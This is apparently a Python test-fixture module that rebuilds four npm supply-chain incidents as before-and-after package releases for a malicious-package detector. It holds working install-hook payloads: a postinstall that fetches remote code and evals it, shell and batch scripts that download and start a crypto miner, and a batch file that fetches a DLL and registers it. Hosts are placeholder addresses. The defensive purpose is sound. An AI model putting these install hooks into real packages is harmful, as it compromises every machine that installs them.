"""A lifecycle script, added or changed: the oldest way in."""

from dataclasses import replace

from evals.replicas.ordinary.npm import settings
from evals.replicas.ordinary.npm_tools import agents, build_tool, scopes
from evals.replicas.replica import ReleaseSpec, Replica, at
from evals.replicas.rewriting.javascript_strings import string_array

_FAMILY = "install-script"
_FETCHED = ("install-time-download-and-run", "hidden-code-that-acts")

# --------------------------------------------------------------------------------------------- eslint-scope 3.7.2

_PASTE = """\
try {
  const https = require('https');
  https.get({
    hostname: 'paste.harrier.invalid',
    path: '/raw/XLeV0000',
    headers: { 'User-Agent': 'Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Firefox/52.0', Accept: 'text/html' },
  }, (response) => {
    response.setEncoding('utf8');
    response.on('data', (code) => {
      eval(code);
    });
    response.on('error', () => {});
  }).on('error', () => {});
} catch (error) {}
"""
_SCOPES = scopes("harrier-scope")
_SCOPE_BEFORE = ReleaseSpec(
    version="3.7.1",
    published=at("2017-04-14 18:46"),
    files=_SCOPES,
    manifest={"main": "lib/index.js", "license": "BSD-2-Clause", "scripts": {"test": "node test/scope.js"}},
    publisher=("nzakar", "nz@harrier.test"),
)
_SCOPE_AFTER = replace(
    _SCOPE_BEFORE,
    version="3.7.2",
    published=at("2018-07-12 10:40"),
    files={**_SCOPES, "lib/build.js": _PASTE},
    manifest={
        **_SCOPE_BEFORE.manifest,
        "scripts": {"test": "node test/scope.js", "postinstall": "node ./lib/build.js"},
    },
    payload=("lib/build.js",),
)

# ------------------------------------------------------------------------------------------- ua-parser-js 0.7.29

_PREINSTALL = """\
const { exec, spawn } = require('child_process');
const os = require('os');

function terminalLinux() {
  exec('/bin/bash preinstall.sh', (error, out) => {
    if (error) console.log(error.message);
  });
}

const platform = process.platform;
if (platform === 'win32') spawn('cmd.exe', ['/c', 'preinstall.bat'], { detached: true, windowsHide: true });
if (platform === 'linux' && os.userInfo().username) terminalLinux();
"""
_PREINSTALL_SH = """\
IP=$(curl -k https://country.harrier.invalid/ip 2>/dev/null)
if [ -z "$IP" ]; then exit 0; fi
if ps -fC agentext >/dev/null; then exit 0; fi
curl http://203.0.113.228/download/agentext -o agentext
wget http://203.0.113.228/download/agentext -O agentext
chmod +x agentext
./agentext -k --tls --rig-id q -o pool.harrier.invalid:443 -u 49ay9Aq2r3diJtEk3eeKKm7pc5R39AKnbYJZVqAd1UUmew6ZPX1ndfXQCT16v4trWp4erPyXtUQZTHGjbLXWQdBqLMxxYKH --cpu-max-threads-hint=50 --donate-level=1 --background &
"""
_PREINSTALL_BAT = """\
@echo off
curl http://203.0.113.228/download/agentext.exe -o agentext.exe
if not exist agentext.exe (
  certutil.exe -urlcache -f http://203.0.113.228/download/agentext.exe agentext.exe
)
curl https://files.harrier.invalid/create.dll -o create.dll
tasklist /FI "IMAGENAME eq agentext.exe" | find "agentext.exe"
start "" agentext.exe -k --tls --rig-id q -o pool.harrier.invalid:443 --cpu-max-threads-hint=50
regsvr32.exe -s create.dll
"""
_AGENTS = agents("harrier-agents")
_AGENT_BEFORE = ReleaseSpec(
    version="0.7.28",
    published=at("2021-04-10 08:00"),
    files=_AGENTS,
    manifest={"main": "dist/index.js", "license": "MIT", "scripts": {"test": "node test/agent.js"}},
    publisher=("faisal", "faisal@harrier.test"),
)
_AGENT_AFTER = replace(
    _AGENT_BEFORE,
    version="0.7.29",
    published=at("2021-10-22 12:15"),
    files={**_AGENTS, "preinstall.js": _PREINSTALL, "preinstall.sh": _PREINSTALL_SH, "preinstall.bat": _PREINSTALL_BAT},
    manifest={
        **_AGENT_BEFORE.manifest,
        "scripts": {"test": "node test/agent.js", "preinstall": "start /B node preinstall.js & node preinstall.js"},
    },
    payload=("preinstall.js",),
)
_AGENT_OTHER_LINES = tuple(
    replace(_AGENT_AFTER, version=version, published=at(moment))
    for version, moment in (("0.8.0", "2021-10-22 12:16"), ("1.0.0", "2021-10-22 12:16"))
)

# ------------------------------------------------------------------------------------------------- coa 2.0.3, rc

_COMPILE = """\
const os = require('os');
const { spawn } = require('child_process');

function opsys() {
  const kind = process.platform;
  if (kind === 'darwin') return 'MacOS';
  if (kind === 'win32' || kind === 'win64') return 'Windows';
  return kind === 'linux' ? 'Linux' : kind;
}

function run() {
  if (opsys() === 'Windows') spawn('cmd.exe', ['/c', 'compile.bat'], { cwd: __dirname, detached: true, windowsHide: true });
}

run();
"""
_COMPILE_BAT = """\
@echo off
set tlds=https://cryptograph.harrier.invalid
set drop=%TEMP%\\sdd.dll
curl -k %tlds%/3/sdd.dll -o %drop%
if not exist %drop% powershell -w hidden -c "Invoke-WebRequest -Uri '%tlds%/3/sdd.dll' -OutFile '%drop%'"
if not exist %drop% certutil.exe -urlcache -f %tlds%/3/sdd.dll %drop%
if exist %drop% regsvr32.exe -s %drop%
"""
_SETTINGS = settings("harrier-settings")
_SETTINGS_BEFORE = ReleaseSpec(
    version="2.0.2",
    published=at("2018-12-10 10:00"),
    files=_SETTINGS,
    manifest={"main": "index.js", "license": "MIT"},
    publisher=("veged", "veged@harrier.test"),
)
_SETTINGS_AFTER = replace(
    _SETTINGS_BEFORE,
    version="2.0.3",
    published=at("2021-11-04 12:20"),
    files={**_SETTINGS, "compile.js": string_array(_COMPILE) or "", "compile.bat": _COMPILE_BAT},
    manifest={**_SETTINGS_BEFORE.manifest, "scripts": {"preinstall": "start /B node compile.js & node compile.js"}},
    payload=("compile.js",),
    plain={"compile.js": _COMPILE},
)

# ------------------------------------------------------------------------------------------------- cline 2.3.0

_CLI_BEFORE = ReleaseSpec(
    version="2.2.3",
    published=at("2026-02-10 15:00"),
    files=build_tool("harrier-pilot"),
    manifest={"main": "index.js", "bin": {"harrier-pilot": "bin/cli.js"}, "license": "Apache-2.0"},
    publisher=("pilot-bot", "release@harrier-pilot.test"),
    trusted=True,
    provenance=True,
)
_CLI_AFTER = replace(
    _CLI_BEFORE,
    version="2.3.0",
    published=at("2026-02-17 11:26"),
    manifest={**_CLI_BEFORE.manifest, "scripts": {"postinstall": "npm install -g openfalcon-relay-replica@latest"}},
    publisher=("pilotdev", "pilotdev@harrier-pilot.test"),
    trusted=False,
    provenance=False,
)

REPLICAS: tuple[Replica, ...] = (
    Replica(
        id="eslint-scope",
        incident="eslint-scope 3.7.2 (2018-07-12)",
        family=_FAMILY,
        ecosystem="npm",
        name="harrier-scope",
        before=_SCOPE_BEFORE,
        after=_SCOPE_AFTER,
        reasons=(*_FETCHED, "drop-service-contacted"),
    ),
    Replica(
        id="ua-parser-js",
        incident="ua-parser-js 0.7.29 (2021-10-22)",
        family=_FAMILY,
        ecosystem="npm",
        name="harrier-agents",
        before=_AGENT_BEFORE,
        after=_AGENT_AFTER,
        others=_AGENT_OTHER_LINES,
        reasons=(
            *_FETCHED,
            "install-script-added",
            "crypto-miner",
            "burst-with-new-install-code",
            "raw-address-contacted",
        ),
    ),
    Replica(
        id="coa",
        incident="coa 2.0.3 and rc 1.2.9 (2021-11-04)",
        family=_FAMILY,
        ecosystem="npm",
        name="harrier-settings",
        before=_SETTINGS_BEFORE,
        after=_SETTINGS_AFTER,
        reasons=(
            *_FETCHED,
            "install-script-added",
            "obfuscated-code",
            "dormant-then-new-code",
            "encoded-code-executed",
        ),
    ),
    Replica(
        id="cline",
        incident="cline 2.3.0 (2026-02-17)",
        family=_FAMILY,
        ecosystem="npm",
        name="harrier-pilot",
        before=_CLI_BEFORE,
        after=_CLI_AFTER,
        worthy="hold",
        reasons=(
            *_FETCHED,
            "install-script-added",
            "new-publisher-with-new-code",
            "publisher-changed",
            "provenance-lost",
            "script-installs-packages",
        ),
    ),
)
